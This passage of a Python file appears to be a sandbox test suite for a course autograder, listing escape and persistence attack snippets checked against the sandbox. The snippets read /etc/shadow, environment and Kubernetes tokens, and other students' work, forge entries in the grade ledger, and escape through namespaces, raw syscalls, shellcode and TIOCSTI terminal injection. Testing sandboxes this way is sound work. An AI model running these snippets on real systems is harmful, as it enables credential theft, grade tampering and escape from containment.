    "Take back the limits.",
    """
    import resource
    for name in ("AS", "FSIZE", "NPROC", "CPU", "NOFILE"):
        limit = getattr(resource, f"RLIMIT_{name}")
        soft, hard = resource.getrlimit(limit)
        if hard == -1:
            continue
        tried(lambda: resource.setrlimit(limit, (hard + 1, hard + 1)) is None and $DOOR)
    """,
)

# --- out of the box ---------------------------------------------------------------------
FAMILY = "escape"

attack(
    "files of the teacher",
    "Read the teacher's secret in every way that Python and C know.",
    LIBC
    + """
import mmap
def buffered(fd):
    return os.read(fd, 60)
def by_c():
    buffer = ctypes.create_string_buffer(60)
    fd = libc("open", $SECRET.encode(), 0)
    libc("read", fd, buffer, 60)
    return buffer.raw
def by_link():
    os.symlink($SECRET, $MARK)
    return open($MARK).read()
tried(lambda: open($SECRET).read())
tried(lambda: buffered(os.open($SECRET, os.O_RDONLY)))
tried(lambda: np.fromfile($SECRET, np.uint8).tobytes())
tried(by_c)
tried(by_link)
tried(lambda: open("/proc/self/root" + $SECRET).read())
tried(lambda: open(f"/proc/{os.getppid()}/root" + $SECRET).read())
tried(lambda: open("/proc/self/cwd" + "/.." * 20 + $SECRET).read())
tried(lambda: open("/.." + $SECRET).read())
tried(lambda: os.listdir($FOLDER) and $DOOR)
""",
    works_unboxed=True,
)
attack(
    "notebook of a classmate",
    "Read what another student handed in, and the results of others.",
    """
    tried(lambda: open($CLASSMATE).read())
    tried(lambda: open($RESULT).read() and $DOOR)
    tried(lambda: os.link($CLASSMATE, $MARK) is None and open($MARK).read())
    """,
    works_unboxed=True,
)
attack(
    "file by its handle",
    "Open the teacher's secret by its number on the disk, without a path.",
    LIBC
    + """
import struct
def by_handle():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    libc("name_to_handle_at", -100, $SECRET.encode(), handle, ctypes.byref(mount), 0)
    fd = libc("open_by_handle_at", os.open("/", os.O_RDONLY), handle, 0)
    return os.read(fd, 60)
tried(by_handle)
""",
    works_unboxed=True,
)
attack(
    "files of the machine",
    "Read passwords, keys, tokens and devices.",
    """
    for path in (
        "/etc/shadow", "/etc/passwd", "/etc/hostname", "/root/.bashrc", "/proc/kcore",
        "/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/proc/1/maps", "/proc/modules",
        "/run/secrets/kubernetes.io/serviceaccount/token",
    ):
        tried(lambda: open(path, "rb").read(10) and $DOOR)
    tried(lambda: os.listdir("/home") + os.listdir("/root") and $DOOR)
    LOOT[:] = sorted(set(LOOT))
    """,
    works_unboxed=True,
)
attack(
    "ledger",
    "Write into the teacher's ledger in every way that there is.",
    """
    tried(lambda: open($LEDGER, "a").write("mallory,3"))
    tried(lambda: os.truncate($LEDGER, 0))
    tried(lambda: os.rename($LEDGER, $LEDGER + $MARK))
    tried(lambda: os.unlink($LEDGER))
    tried(lambda: os.link($LEDGER, $LEDGER + $MARK))
    tried(lambda: os.symlink("/dev/null", $LEDGER + $MARK))
    tried(lambda: os.mkdir($LEDGER + $MARK))
    tried(lambda: os.mkfifo($LEDGER + $MARK + "f"))
    """,
    works_unboxed=True,
)
attack(
    "what stands beside a file",
    "Change the ledger's rights, owner, times and attributes, which is no writing.",
    """
    tried(lambda: os.chmod($LEDGER, 0) is None and $DOOR)
    tried(lambda: os.chown($LEDGER, 12345, 12345) is None and $DOOR)
    tried(lambda: os.utime($LEDGER) is None and $DOOR)
    tried(lambda: os.setxattr($LEDGER, "user.points", b"3") is None and $DOOR)
    tried(lambda: os.chmod($FOLDER, 0o700) is None and $DOOR)
    """,
    works_unboxed=True,
)
attack(
    "environment",
    "Read the teacher's token from the environment.",
    LIBC
    + """
LIBRARY.getenv.restype = ctypes.c_char_p
tried(lambda: os.environ["COURSE_TEACHER_TOKEN"])
tried(lambda: LIBRARY.getenv(b"COURSE_TEACHER_TOKEN"))
tried(lambda: open("/proc/self/environ").read().split("TOKEN=")[1])
tried(lambda: sorted(set(os.environ) & {"GITHUB_TOKEN", "HOME", "USER", "SSH_AUTH_SOCK"}))
""",
)
attack(
    "network: TCP",
    "Connect to a port of this machine.",
    """
    import socket
    tried(lambda: socket.create_connection(("127.0.0.1", $TCP), 1) and $DOOR)
    tried(lambda: socket.create_server(("", 0)) and $DOOR)
    """,
    works_unboxed=True,
)
attack(
    "network: UDP",
    "Send a datagram, which needs no connection.",
    """
    import socket
    def send(kind):
        sender = socket.socket(socket.AF_INET, kind)
        return sender.sendto(b"x", ("127.0.0.1", $UDP)) and $DOOR
    tried(send, socket.SOCK_DGRAM)
    tried(send, socket.SOCK_RAW)
    """,
    works_unboxed=True,
)
attack(
    "network: names",
    "Ask for the address of a name, which carries a word outside, and list interfaces.",
    """
    import socket
    tried(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) and $DOOR)
    tried(lambda: [n for _, n in socket.if_nameindex() if n != "lo"][0] and $DOOR)
    tried(lambda: socket.getaddrinfo("localhost", 80) and open("/etc/hosts") and $DOOR)
    """,
    works_unboxed=True,
)
attack(
    "sockets with a path",
    "Connect to a socket of the file system, as that of Docker or of an SSH agent.",
    """
    import socket
    tried(lambda: socket.socket(socket.AF_UNIX).connect($UNIX) is None and $DOOR)
    """,
    works_unboxed=True,
)
attack(
    "sockets without a path",
    "Connect to an abstract socket, which no rule about files covers.",
    """
    import socket
    tried(lambda: socket.socket(socket.AF_UNIX).connect($ABSTRACT) is None and $DOOR)
    """,
    works_unboxed=True,
)
attack(
    "signals",
    "Send a signal to the grader, and to all processes.",
    LIBC
    + """
import signal, threading
for pid in {os.getppid(), $PID, -1} - {0}:
    tried(os.kill, pid, signal.SIGURG)
tried(lambda: os.killpg(os.getpgid($PID), signal.SIGURG))
tried(lambda: signal.pidfd_send_signal(os.pidfd_open($PID), signal.SIGURG))
tried(lambda: libc("tgkill", $PID, $PID, signal.SIGURG))
tried(lambda: libc("sigqueue", $PID, signal.SIGURG, None))
""",
    works_unboxed=True,
)
attack(
    "signals by a pipe",
    "Let the kernel send the grader a signal when a pipe is ready.",
    """
    import fcntl, signal
    def ask_for_signal(pid):
        r, w = os.pipe()
        fcntl.fcntl(r, 10, signal.SIGURG)  # F_SETSIG
        fcntl.fcntl(r, fcntl.F_SETOWN, pid)
        fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(w, b"x")
    for pid in {os.getppid(), $PID} - {0}:
        tried(ask_for_signal, pid)
    """,
    works_unboxed=True,
)
attack(
    "limits of the grader",
    "Lower the limits, the priority and the processors of the trusted process.",
    """
    import resource
    limit = resource.RLIMIT_NOFILE
    def lower(pid):
        soft, hard = resource.prlimit(pid, limit)
        return resource.prlimit(pid, limit, (soft - 1, hard)) and $DOOR
    for pid in {os.getppid(), $PID} - {0}:
        tried(lower, pid)
        tried(lambda: os.setpriority(os.PRIO_PROCESS, pid, 19) is None and $DOOR)
        tried(lambda: os.sched_setaffinity(pid, {0}) is None and $DOOR)
    """,
    works_unboxed=True,
)
attack(
    "shared memory of System V",
    "Leave memory, messages and semaphores that outlive every process.",
    LIBC
    + """
tried(lambda: libc("shmget", $TCP, 1 << 20, 0o1666) >= 0 and $DOOR)
tried(lambda: libc("msgget", $TCP, 0o1666) >= 0 and $DOOR)
tried(lambda: libc("semget", $TCP, 1, 0o1666) >= 0 and $DOOR)
""",
    works_unboxed=True,
)
attack(
    "message queue",
    "Leave a queue of messages that outlives every process.",
    LIBC
    + """
tried(lambda: libc("mq_open", b"/" + $MARK.encode(), 0o100 | 2, 0o666, None) >= 0 and $DOOR)
""",
    works_unboxed=True,
)
attack(
    "another user",
    "Become root, or anybody.",
    """
    tried(lambda: os.setuid(0) is None and open("/etc/shadow") and $DOOR)
    tried(lambda: os.setuid(12345) is None and $DOOR)
    tried(lambda: os.setgroups([0]) is None and $DOOR)
    """,
    works_unboxed=True,
)
attack(
    "namespaces",
    "Make an own world in which one is root, mount, and change the root.",
    LIBC
    + """
for flag in (0x10000000, 0x20000, 0x40000000, 0x10000000 | 0x20000):  # user, mount, net
    tried(lambda: libc("unshare", flag) == 0 and $DOOR)
tried(lambda: libc("mount", b"none", b".", b"tmpfs", 0, None) == 0 and $DOOR)
tried(lambda: os.chroot("/") is None and $DOOR)
tried(lambda: libc("setns", os.open(f"/proc/{$PID}/ns/net", os.O_RDONLY), 0) == 0 and $DOOR)
tried(lambda: libc("syscall", 155, b"/", b"/") == 0 and $DOOR)  # pivot_root
""",
    works_unboxed=None,
)
attack(
    "strange calls of the kernel",
    "Use calls that have been ways out: io_uring, bpf, perf, userfaultfd, keys.",
    LIBC
    + """
buffer = ctypes.create_string_buffer(256)
buffer[4] = 64
tried(lambda: libc("syscall", 425, 8, ctypes.create_string_buffer(256)) >= 0 and $DOOR)
tried(lambda: libc("syscall", 321, 5, buffer, 72) >= 0 and $DOOR)  # bpf
tried(lambda: libc("syscall", 298, buffer, 0, -1, -1, 0) >= 0 and $DOOR)  # perf_event_open
tried(lambda: libc("syscall", 323, 1) >= 0 and $DOOR)  # userfaultfd
tried(lambda: libc("syscall", 248, b"user", b"mark", b"x", 1, -3) >= 0 and $DOOR)
tried(lambda: libc("syscall", 300, 0, 0) >= 0 and $DOOR)  # fanotify_init
tried(lambda: libc("syscall", 250, 0, -3, 1) >= 0 and $DOOR)  # keyctl
tried(lambda: libc("syscall", 0x40000000 + 41, 2, 1, 0) >= 0 and $DOOR)  # x32 socket
""",
    works_unboxed=True,
)
attack(
    "program in memory",
    "Run a program that is on no disk.",
    """
    import time
    def run():
        fd = os.memfd_create("program")
        os.write(fd, b"#!/bin/sh\\nexit 0\\n")
        os.execve(fd, ["program"], {})
    def toeplitz_same(w, n):
        for path in ("/bin/true", "/usr/bin/true", sys.executable):
            tried(os.execv, path, [path, "-c", ""])
        tried(run)
        return np.zeros((n, n))
    """,
)
attack(
    "machine code of another kind",
    "Call the kernel in 32 bits, which other numbers and another check apply to.",
    """
    import ctypes, mmap
    def call32(number, *arguments):
        code = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, 7)
        place = ctypes.addressof(ctypes.c_char.from_buffer(code))
        text = place + 1024
        code[1024:1024 + len($SECRET) + 1] = $SECRET.encode() + b"\\0"
        words = [number, *[text if a is None else a for a in arguments]]
        body = b"\\x53"  # push rbx
        for register, value in zip((b"\\xb8", b"\\xbb", b"\\xb9", b"\\xba"), words):
            body += register + (value & 0xFFFFFFFF).to_bytes(4, "little")
        body += b"\\xcd\\x80\\x5b\\xc3"  # int 0x80, pop rbx, ret
        code[:len(body)] = body
        return ctypes.CFUNCTYPE(ctypes.c_int)(place)()
    def read():
        fd = call32(5, None, 0, 0)  # open
        return os.read(fd, 60) if fd >= 0 else fd
    def connect():
        fd = call32(359, 1, 1, 0)  # socket
        return fd >= 0 and $DOOR
    if os.uname().machine == "x86_64":
        tried(read)
        tried(connect)
    """,
    works_unboxed=True,
)
attack(
    "terminal",
    "Type into the teacher's terminal.",
    """
    import fcntl
    for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/dev/ptmx"):
        tried(lambda: os.open(path, os.O_RDWR) and $DOOR)
    for fd in range(3):
        tried(lambda: fcntl.ioctl(fd, 0x5412, b"x") and $DOOR)  # TIOCSTI
    """,
    works_unboxed=True,
)
attack(
    "switches of the kernel",
    "Open the kernel's own settings for writing.",
    """
    for path in (
        "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
        "/sys/fs/cgroup/cgroup.procs", f"/proc/{$PID}/oom_score_adj",
    ):
        tried(lambda: os.open(path, os.O_WRONLY) and $DOOR)
    tried(lambda: open("/proc/self/oom_score_adj", "w").write("-900") and $DOOR)
    """,
    works_unboxed=True,
)
# --- what stays -------------------------------------------------------------------------
FAMILY = "persistence"

attack(
    "process that stays",
    "Leave a process behind that has cut all ties.",
    """
    import time
    def stay():
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.closerange(0, 256)
                time.sleep(20)
            os._exit(0)
        return $DOOR
    tried(stay)
    """,
    works_unboxed=True,
)
attack(
    "thread that stays",
    "Leave a thread behind that writes the ledger when the answer has been judged.",
    """
    import threading, time
    def later():
        for _ in range(100):
            time.sleep(0.05)
            tried(lambda: open($LEDGER, "a").write("mallory,3"))
    threading.Thread(target=later).start()
    def toeplitz_same(w, n):
        return np.zeros((n, n))
    """,
    works_unboxed=True,
)
attack(
    "poisoned machine code",
    "Leave machine code for the next student in the cache, whose index is a pickle.",
    """
    from pathlib import Path
    for folder in (Path($CACHE), Path($CACHE).parent, Path($ROOT, "course/layers")):
        tried(lambda: (folder / ($MARK + ".nbi")).write_text("x") and $DOOR)
    """,
    works_unboxed=True,
)
